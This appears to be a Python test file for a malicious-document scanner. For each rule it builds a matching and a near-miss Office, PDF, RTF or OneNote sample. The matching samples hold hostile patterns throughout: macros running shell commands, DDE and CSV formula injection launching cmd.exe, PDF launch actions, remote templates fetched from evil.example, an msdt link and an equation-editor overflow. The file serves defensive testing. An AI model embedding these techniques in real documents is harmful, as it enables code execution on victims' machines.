"""For each rule on documents: a file that it fits, and one that is close but that it does not fit."""

import hashlib
import io
import struct

import msoffcrypto.format.ooxml

from submissions.sandbox.base import Sample
from tests.sandbox.static.compound import compound
from tests.sandbox.static.documents import (
    field,
    notebook,
    office,
    packaged,
    pdf,
    program,
    record,
    relationships,
    rtf,
    rtf_object,
    with_macro,
    with_remote,
    workbook,
)
from tests.sandbox.static.samples import file
from tests.sandbox.static.vba import old_word, project_streams

Case = tuple[Sample, Sample]
SLIDE = "<p:sld><a:hlinkMouseOver r:id='rId1' action='ppaction://{}'/></p:sld>"


def macro(code: str) -> Sample:
    return file(with_macro("docm", f"Sub Report()\r\n{code}\r\nEnd Sub\r\n"), "report.docm")


def word(text: str) -> Sample:
    return file(office("docx", text=text), "letter.docx")


def excel(parts: dict[str, bytes | str]) -> Sample:
    return file(office("xlsx", parts), "table.xlsx")


def old(*records: bytes) -> Sample:
    return file(compound({"Workbook": workbook(*records)}), "table.xls")


def page(*objects: str, catalog: str = "") -> Sample:
    return file(pdf(*objects, catalog=catalog), "letter.pdf")


def rich(*parts: str) -> Sample:
    return file(rtf(*parts), "letter.rtf")


def note(*blobs: bytes) -> Sample:
    return file(notebook(*blobs), "notes.one")


def embedding(streams: dict[str, bytes], clsid: str = "", kind: str = "docx") -> Sample:
    folder = "word" if kind == "docx" else "xl"
    return file(office(kind, {f"{folder}/embeddings/oleObject1.bin": compound(streams, clsid)}), f"letter.{kind}")


def encrypted(password: str) -> Sample:
    """Large enough for a stream of its own: the library spoils documents below 4 KiB."""
    filling = b"".join(hashlib.sha256(bytes([number])).digest() for number in range(256))
    plain = io.BytesIO(office("xlsx", {"xl/media/picture.bin": filling}))
    sealed = io.BytesIO()
    msoffcrypto.format.ooxml.OOXMLFile(plain).encrypt(password, sealed)
    return file(sealed.getvalue(), "table.xlsx")


def attached(name: str, content: str) -> Sample:
    """A PDF with an attached file."""
    return page(
        f"<</Type/Filespec/F({name})/EF<</F 5 0 R>>>>",
        f"<</Type/EmbeddedFile/Length {len(content)}>>stream\n{content}\nendstream",
        catalog=f"/Names<</EmbeddedFiles<</Names[({name}) 4 0 R]>>>>",
    )


SHEET = record(0x0085, struct.pack("<IBBB", 0, 0, 1, 6) + b"\0Macro1")
HIDDEN_SHEET = record(0x0085, struct.pack("<IBBB", 0, 1, 1, 6) + b"\0Macro1")
PLAIN_SHEET = record(0x0085, struct.pack("<IBBB", 0, 0, 0, 6) + b"\0Sheet1")
AUTO_OPEN = record(0x0018, struct.pack("<HBBHHH4s", 0x20, 0, 1, 0, 0, 0, b"") + b"\0\x01")
PRINT_AREA = record(0x0018, struct.pack("<HBBHHH4s", 0x20, 0, 1, 0, 0, 0, b"") + b"\0\x06")
EXEC = record(0x0006, bytes(22) + b"\x17\x04\0calc\x42\x01" + struct.pack("<H", 110 | 0x8000))
SUM = record(0x0006, bytes(22) + b"\x42\x01" + struct.pack("<H", 4))
EQUATION = "0002CE02-0000-0000-C000-000000000046"
SCRAMBLED = "{\\object\\objemb{\\*\\objdata " + "0105\\bin0 {\\*\\x}0000\\'aa\\par " * 40 + "}}"
URL_MONIKER = bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b")
FONT_OVERFLOW = bytes(28) + b"\x03\x01\x01\x03\x0a\x0a\x01\x08\x5a\x5a" + b"A" * 60 + b"\0"
FONT = bytes(28) + b"\x03\x01\x01\x03\x0a\x0a\x01\x08\x5a\x5aTimes New Roman\0" + b"\x02x"
LINK = "<Relationships>{}</Relationships>"
DDE_LINK = '<externalLink><ddeLink ddeService="{}" ddeTopic="{}"/></externalLink>'
ON_OPEN = "/OpenAction<</S/JavaScript/JS({})>>"
EXCEL4_BOOK = '<workbook><sheets><sheet name="M" {}/></sheets>{}</workbook>'


def excel4(sheet: str = "<f>1</f>", state: str = "", names: str = "") -> Sample:
    return excel({"xl/macrosheets/sheet1.xml": sheet, "xl/workbook.xml": EXCEL4_BOOK.format(state, names)})


CASES: dict[str, Case] = {
    "macro": (macro("x = 1"), word("Sub Report()")),
    "macro-empty": (file(with_macro("docm", "Option Explicit\r\n")), macro("x = 1")),
    "macro-auto-run": (
        file(with_macro("docm", "Sub Document_Open()\r\nx = 1\r\nEnd Sub\r\n")),
        file(with_macro("docm", "Sub OpenDocumentList()\r\nx = 1\r\nEnd Sub\r\n")),
    ),
    "macro-runs-program": (macro('CreateObject("WScript.Shell").Run "calc"'), macro('MsgBox "the shell of an egg"')),
    "macro-downloads": (macro('Set x = CreateObject("MSXML2.XMLHTTP")'), macro('MsgBox "https://www.example.org"')),
    "macro-writes-file": (macro('Open "c:\\a.txt" For Output As #1'), macro('Open "c:\\a.txt" For Input As #1')),
    "macro-obfuscated": (macro("x = Chr(99) & Chr(97) & Chr(108) & Chr(99)"), macro("x = a & vbCrLf & Chr(13)")),
    "macro-calls-system": (
        file(with_macro("docm", 'Declare PtrSafe Function Beep Lib "kernel32" (ByVal x As Long) As Long\r\n')),
        macro("' a library of functions"),
    ),
    "macro-changes-security": (macro('x = "Excel\\Security\\AccessVBOM"'), macro('MsgBox "security"')),
    "macro-stomped": (
        file(
            compound(
                {"WordDocument": bytes(4096), "Macros/cache": b"\0AutoOpen\0", **project_streams({"M": ""}, "Macros")}
            )
        ),
        file(old_word("")),
    ),
    "macro-xlm": (old(SHEET), old(PLAIN_SHEET)),
    "macro-xlm-hidden": (old(HIDDEN_SHEET), old(SHEET)),
    "macro-xlm-auto-run": (old(SHEET, AUTO_OPEN), old(SHEET, PRINT_AREA)),
    "macro-xlm-calls": (old(SHEET, EXEC), old(SHEET, SUM)),
    "dde": (word(field("DDEAUTO excel Book1 R1C1")), word("The word DDEAUTO in a text")),
    "dde-program": (
        word(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
        word(field("DDEAUTO excel Book1 R1C1")),
    ),
    "dde-link": (
        excel({"xl/externalLinks/externalLink1.xml": DDE_LINK.format("BLP", "LAST")}),
        excel({"xl/externalLinks/externalLink1.xml": "<externalLink><externalBook/></externalLink>"}),
    ),
    "formula-runs-program": (
        file(b"name,total\n=cmd|' /c calc'!A0,1\n", "table.csv"),
        file(b"name,total\n=SUM(A1:A9),1\nthe cmd | the key,2\n", "table.csv"),
    ),
    "remote-template": (
        file(with_remote("attachedTemplate", "https://evil.example/a.dotm"), "letter.docx"),
        file(with_remote("attachedTemplate", "file:///C:\\Users\\me\\Normal.dotm"), "letter.docx"),
    ),
    "remote-object": (
        file(with_remote("oleObject", "https://evil.example/a.xls"), "letter.docx"),
        file(with_remote("hyperlink", "https://www.example.org/a.xls"), "letter.docx"),
    ),
    "remote-frame": (
        file(with_remote("frame", "https://evil.example/a"), "letter.docx"),
        file(with_remote("hyperlink", "https://evil.example/a"), "letter.docx"),
    ),
    "remote-share": (
        file(with_remote("image", "file://198.51.100.7/share/a.png"), "letter.docx"),
        file(with_remote("oleObject", "file:///\\\\server\\figures\\a.xlsx"), "letter.docx"),
    ),
    "remote-picture": (
        file(with_remote("image", "https://www.example.org/a.png"), "letter.docx"),
        file(with_remote("image", "file:///C:\\a.png"), "letter.docx"),
    ),
    "exploit-address": (
        file(with_remote("oleObject", "mhtml:https://evil.example/a.html!x-usc:https://evil.example/a.html")),
        file(with_remote("hyperlink", "mailto:info@example.org")),
    ),
    "action-program": (
        file(office("pptx", {"ppt/slides/slide1.xml": SLIDE.format("program")}), "talk.pptx"),
        file(office("pptx", {"ppt/slides/slide1.xml": SLIDE.format("hlinksldjump")}), "talk.pptx"),
    ),
    "embedded-object": (
        file(office("docx", {"word/embeddings/sheet.xlsx": office("xlsx")})),
        file(office("docx", {"word/media/picture.png": b"\x89PNG\r\n\x1a\n"})),
    ),
    "embedded-file": (
        embedding({"\x01Ole10Native": packaged("readme.txt", b"Hello, world\n")}),
        file(office("docx", {"word/embeddings/sheet.xlsx": office("xlsx")})),
    ),
    "embedded-program": (
        embedding({"\x01Ole10Native": packaged("invoice.exe", program())}),
        embedding({"\x01Ole10Native": packaged("readme.txt", b"Hello, world\n")}),
    ),
    "activex": (
        file(office("docx", {"word/activeX/activeX1.xml": '<ax:ocx ax:classid="{8BD21D10-EC42-11CE}"/>'})),
        file(office("docx", {"word/theme/theme1.xml": "<a:theme/>"})),
    ),
    "flash": (
        file(
            office(
                "docx",
                {"word/activeX/activeX1.xml": '<ax:ocx ax:classid="{D27CDB6E-AE6D-11cf-96B8-444553540000}"/>'},
            )
        ),
        file(office("docx", {"word/activeX/activeX1.xml": '<ax:ocx ax:classid="{8BD21D10-EC42-11CE}"/>'})),
    ),
    "equation-object": (embedding({"Equation Native": FONT}, EQUATION), embedding({"CONTENTS": b"x"})),
    "equation-exploit": (
        embedding({"Equation Native": FONT_OVERFLOW}, EQUATION),
        embedding({"Equation Native": FONT}, EQUATION),
    ),
    "stream-name-disguised": (
        embedding({"\x01oLe10nAtIVe": b"\0" * 8}),
        embedding({"\x01Ole10Native": packaged("readme.txt", b"Hello\n")}),
    ),
    "opened-with-default-password": (encrypted("VelvetSweatshop"), encrypted("secret")),
    "lure-text": (word("Please click Enable Content to see it"), word("The contents enable us to see it")),
    "rtf-object": (rich(rtf_object("Excel.Sheet.12", b"\0" * 64)), rich("no object at all")),
    "rtf-auto-update": (
        rich(rtf_object("Excel.Sheet.12", b"\0" * 64, "\\objemb\\objupdate")),
        rich(rtf_object("Excel.Sheet.12", b"\0" * 64)),
    ),
    "rtf-equation": (rich(rtf_object("Equation.3", b"\0" * 64)), rich(rtf_object("Excel.Sheet.12", b"\0" * 64))),
    "rtf-link-object": (
        rich(rtf_object("OLE2Link", compound({"\x01Ole": bytes(20) + URL_MONIKER}))),
        rich(rtf_object("Excel.Sheet.12", b"\0" * 64)),
    ),
    "rtf-scrambled": (rich(SCRAMBLED), rich(rtf_object("Excel.Sheet.12", b"\0" * 900))),
    "rtf-malformed-start": (file(b"{\\rtxa1 hello}", "letter.doc"), rich("hello")),
    "pdf-launch": (page(catalog="/OpenAction<</S/Launch/F(report.doc)>>"), page("<</S/GoTo/D[3 0 R/Fit]>>")),
    "pdf-launch-command": (
        page(catalog="/OpenAction<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>"),
        page(catalog="/OpenAction<</S/Launch/F(report.doc)>>"),
    ),
    "pdf-javascript": (page("<</S/JavaScript/JS(app.alert\\(1\\))>>"), page("<</Title(JavaScript for all)>>")),
    "pdf-javascript-on-open": (
        page(catalog=ON_OPEN.format("app.alert\\(1\\)")),
        page(catalog=ON_OPEN.format("this.print\\(true\\);")),
    ),
    "pdf-javascript-risky": (
        page("<</S/JavaScript/JS 5 0 R>>", "<</Length 26>>stream\nvar a=unescape('%u9090');\nendstream"),
        page("<</S/JavaScript/JS(AFNumber_Format\\(2,0\\))>>"),
    ),
    "pdf-drops-file": (
        page(catalog=ON_OPEN.format("this.exportDataObject\\({cName:'a',nLaunch:2}\\)")),
        page(catalog=ON_OPEN.format("this.exportDataObject\\({cName:'a'}\\)")),
    ),
    "pdf-embedded-file": (attached("data.txt", "1;2;3"), page()),
    "pdf-remote-share": (
        page(catalog="/AA<</O<</S/GoToE/F(\\\\\\\\198.51.100.7\\\\a)/D[0/Fit]>>>>"),
        page("<</S/GoToR/F(chapter2.pdf)/D[0/Fit]>>"),
    ),
    "pdf-link-to-program": (
        page("<</S/URI/URI(https://evil.example/invoice.exe)>>"),
        page("<</S/URI/URI(https://www.example.com)>>"),
    ),
    "pdf-opens-address": (
        page("<</S/URI/URI(https://evil.example/login)>>", catalog="/OpenAction 4 0 R"),
        page("<</S/URI/URI(https://www.example.com)>>", catalog="/OpenAction[3 0 R/Fit]"),
    ),
    "pdf-submits-form": (page("<</S/SubmitForm/F(https://www.example.org/)>>"), page("<</S/ResetForm>>")),
    "pdf-rich-media": (page("<</Type/Annot/Subtype/RichMedia>>"), page("<</Type/Annot/Subtype/Link>>")),
    "pdf-disguised-names": (
        page(catalog="/Open#41ction<</S/J#61vaScript/JS(app.alert\\(1\\))>>"),
        page("<</Type/Font/BaseFont/Arial#20Narrow>>"),
    ),
    "onenote-file": (note(b"a,b\n1,2\n"), note(b"\x89PNG\r\n\x1a\n" + bytes(50))),
    "onenote-program": (note(b"<html><hta:application></html>"), note(b"a,b\n1,2\n")),
}

# Other forms of the same: the old and the new file format, an encoding, a place.
ALSO: tuple[tuple[str, Sample], ...] = (
    ("macro", file(old_word("Sub A()\r\nx = 1\r\nEnd Sub\r\n"), "letter.doc")),
    ("macro", file(office("pptm", {"ppt/vbaProject.bin": compound(project_streams({"M": "x = 1"}))}), "talk.pptm")),
    ("macro-xlm", excel4()),
    ("macro-xlm-hidden", excel4(state='state="veryHidden"')),
    ("macro-xlm-auto-run", excel4(names='<definedName name="_xlnm.Auto_Open">M!A1</definedName>')),
    ("macro-xlm-calls", excel4("<f>EXEC(&quot;calc&quot;)</f>")),
    ("dde", word('<w:fldSimple w:instr="DDE excel Book1 R1C1"/>')),
    ("dde", word("".join(field(part) for part in ("DD", "EAU", "TO excel Book1")))),
    ("dde", file(compound({"WordDocument": (bytes(600) + b"\x13DDEAUTO excel Book1\x15").ljust(4096, b"\0")}))),
    ("dde", rich("{\\field{\\*\\fldinst DDEAUTO excel Book1}}")),
    ("formula-runs-program", excel({"xl/externalLinks/externalLink1.xml": DDE_LINK.format("cmd", "/c calc")})),
    ("formula-runs-program", old(record(0x01AE, b"\x01\0\x0e\0\0" + b"cmd\x03/c calc.exe"))),
    ("formula-runs-program", file(b'ID;P\nC;X1;Y1;K0;EEXEC("calc")\nE\n', "table.slk")),
    ("remote-template", rich("{\\*\\template https://evil.example/a.dotm}")),
    ("embedded-program", rich(rtf_object("Package", packaged("invoice.js", b"WScript.Echo(1)")[4:]))),
    ("embedded-program", attached("invoice.exe", "MZ")),
    ("embedded-program", page(f"<</Length 9>>stream\n{program().decode('latin-1')}\nendstream")),
    ("rtf-equation", rich("{\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata 0105zz}}")),
    ("rtf-equation", rich("{\\object\\objemb{\\*\\objdata 010500000200000000ff4571756174696f6e2e3300}}")),
    ("embedded-program", file(office("docx", {"word/embeddings/a.bin": program()}))),
    ("pdf-javascript", page("<</S/JavaScript/JS<6170702e616c657274283129>>>")),
    ("onenote-program", note(b"\x89PNG\r\n\x1a\n" + bytes(50), program())),
    ("exploit-address", file(office("docx", {"word/_rels/a.rels": relationships("oleObject", "ms-msdt:/id PCWDiag")}))),
)
